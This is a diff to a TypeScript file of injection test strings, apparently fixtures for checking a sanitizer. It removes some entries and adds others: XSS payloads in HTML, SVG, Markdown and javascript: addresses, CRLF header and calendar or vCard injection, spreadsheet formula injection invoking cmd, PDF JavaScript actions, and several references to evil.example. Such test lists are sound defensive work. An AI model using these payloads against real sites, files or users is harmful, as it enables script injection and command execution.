@@ -1,6 +1,7 @@
 /**
- * Texts that have run as script somewhere: in HTML, in attributes, in SVG and MathML, through broken parsers and sanitizers, in
- * Markdown, in templates, in addresses. Each calls alert or leads to javascript:.
+ * Texts that have run as script somewhere, or broken what they stood in: HTML, attributes, SVG and MathML, broken parsers and
+ * sanitizers, Markdown, templates, addresses, headers, calendars, visiting cards, spreadsheets, PDF. What can call something
+ * calls alert or leads to javascript:.
  */
 export const HOSTILE_TEXTS: readonly string[] = [
   // Elements
@@ -19,29 +20,15 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
   '<base href="javascript:alert(1)//">',
   '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<link rel="stylesheet" href="javascript:alert(1)">',
   '<style>@import "javascript:alert(1)";</style>',
-  '<style>body{background:url("javascript:alert(1)")}</style>',
   '<form action="javascript:alert(1)"><button>x</button></form>',
-  '<isindex action="javascript:alert(1)" type=image>',
-  '<marquee onstart=alert(1)>x</marquee>',
   '<details open ontoggle=alert(1)>x</details>',
-  '<video><source onerror="alert(1)"></video>',
-  '<audio src=x onerror=alert(1)>',
   '<input autofocus onfocus=alert(1)>',
-  '<select autofocus onfocus=alert(1)></select>',
-  '<textarea autofocus onfocus=alert(1)></textarea>',
-  '<keygen autofocus onfocus=alert(1)>',
   '<body onload=alert(1)>',
-  '<body onpageshow=alert(1)>',
   '<table background="javascript:alert(1)"></table>',
-  '<td background="javascript:alert(1)">',
   '<div style="width:expression(alert(1))">',
   '<div style="background-image:url(javascript:alert(1))">',
-  '<xss style="behavior:url(xss.htc)">',
-  '<button form=x formaction="javascript:alert(1)">x</button>',
   '<template><script>alert(1)</script></template>',
-  '<portal src="javascript:alert(1)"></portal>',
   '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
   '<img usemap=#x><map name=x><area href="javascript:alert(1)"></map>',
   // Attributes
@@ -52,7 +39,6 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '<img\tsrc=x\tonerror=alert(1)>',
   '<img src onerror=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>',
   '<img srcset="x" onerror="alert(1)">',
-  '<img dynsrc="javascript:alert(1)">',
   '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
   '<a href="javascript:alert(1)">x</a>',
   '<a href="JaVaScRiPt:alert(1)">x</a>',
@@ -62,16 +48,12 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '<a href="data:text/html,<script>alert(1)</script>">x</a>',
   '<a href="vbscript:msgbox(1)">x</a>',
   '<a onmouseover="alert(1)">x</a>',
-  '<a href="#" onclick=alert(1)//>x</a>',
-  '<p onpointerrawupdate=alert(1)>x',
-  '<div onbeforescriptexecute=alert(1)>',
   '<div popover id=x onbeforetoggle=alert(1)>x</div>',
   '<a ping="javascript:alert(1)" href=x>x</a>',
   // Out of an attribute or an element
   '"><script>alert(1)</script>',
   "'><script>alert(1)</script>",
   '"><img src=x onerror=alert(1)>',
-  "' onmouseover='alert(1)",
   '" autofocus onfocus="alert(1)',
   '` onmouseover=alert(1) x=`',
   '</title><script>alert(1)</script>',
@@ -145,4 +127,51 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '"-alert(1)-"',
   '\u2028alert(1)\u2029',
   '\u202e>)1(trela=rorreno x=crs gmi<',
+  // Each kind of quote, and none, with a name that no page of ours has
+  `zq"'><zq onload=alert(1)>`,
+  '" zq=1 zq2="',
+  "' zq=1 zq2='",
+  'x zq=1 onclick=alert(1) ',
+  'x/onmouseover=alert(1)/',
+  '\\"><zq onload=alert(1)>',
+  '&quot;&gt;&lt;zq onload=alert(1)&gt;',
+  // Addresses
+  'java\nscript:alert(1)',
+  'java&Tab;script&colon;alert(1)',
+  ' \u0000javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'vbscript:msgbox(1)',
+  '//evil.example/x',
+  '[x](java\nscript:alert(1))',
+  '[x](https:javascript:alert(1))',
+  // Data inside of a script
+  '</script ><zq onload=alert(1)>',
+  '<!--<script>alert(1)',
+  '","@type":"zq","x":"',
+  '\\","onload":"alert(1)',
+  // More of mutation
+  '<svg><title><a id="</title><img src onerror=alert(1)>">',
+  '<math><annotation-xml encoding="text/html"><zq onload=alert(1)></annotation-xml></math>',
+  // Odd signs
+  '<\u0000script>alert(1)</script>',
+  '\ud800<zq onload=alert(1)>\udc00',
+  '<scr\u200bipt>alert(1)</scr\u200bipt>\ufeff\u2066',
+  '\u0007\u001b]8;;javascript:alert(1)\u0007x',
+  // Styles
+  '}*{background:url(//evil.example/x)}',
+  '</style ><style>@import"//evil.example/x";</style>',
+  // Headers, calendars, visiting cards
+  'x\r\nSet-Cookie: zq=1\r\n\r\n<script>alert(1)</script>',
+  'x%0d%0aLocation:%20//evil.example',
+  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nURL:javascript:alert(1)',
+  'x;y,z:\\n\nATTACH:javascript:alert(1)',
+  'x\r\nEND:VCARD\r\nBEGIN:VCARD',
+  // Spreadsheets and PDF
+  "=cmd|' /C calc'!A0",
+  '+1+cmd|x!A0',
+  '-2+3+cmd|x!A0',
+  '@SUM(1+1)*cmd|x!A0',
+  '\t=1+1',
+  ') /OpenAction << /S /JavaScript /JS (alert(1)) >> (',
+  'endstream endobj 9 0 obj << /S /URI /URI (javascript:alert(1)) >>',
 ]
